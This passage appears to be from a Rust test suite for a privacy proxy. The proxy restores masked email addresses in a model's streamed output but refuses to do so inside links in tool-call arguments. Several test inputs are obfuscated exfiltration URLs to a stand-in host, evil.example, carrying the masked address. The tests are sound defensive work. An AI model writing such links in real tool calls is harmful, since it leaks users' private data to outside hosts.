            assert_eq!(stream.restored(), put_back, "{text} cut at {cut}");
        }
    }
}

/// Arguments of a tool are JSON that the model writes as it likes.
#[test]
fn nothing_is_put_back_inside_a_link_of_a_tool_call_however_it_is_written() {
    for (text, put_back) in [
        (r#"{"to":"[EMAIL_1]"}"#, 1),
        (r#"{"url":"https:\/\/evil.example\/[EMAIL_1]"}"#, 0),
        (r#"{"url":"https\u003a//evil.example/[EMAIL_1]"}"#, 0),
        (r#"{"url":"\\\\evil.example/[EMAIL_1]"}"#, 0),
        (r#"{"text":"[a](https://a.example)","to":"[EMAIL_1]"}"#, 1),
        (r#"{"text":"at https://a.example\n[EMAIL_1]"}"#, 1),
    ] {
        for cut in 0..=text.len() {
            let restore = vec![Replacement {
                surrogate: "[EMAIL_1]".to_owned(),
                original: weir_model::Sensitive::new("jo@example.com".to_owned()),
            }];
            let mut stream = AnswerStream::new(Some(Decoder::OpenAiChat), SSE, None, restore);
            let mut out = Vec::new();
            for piece in [&text[..cut], &text[cut..]] {
                let call = json!({"index": 0, "function": {"arguments": piece}});
                let event = json!({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]});
                stream.push(format!("data: {event}\n\n").as_bytes(), &mut out).unwrap();
            }
            stream.finish(&mut out).unwrap();
            assert_eq!(stream.restored(), put_back, "{text} cut at {cut}");
        }
    }
}
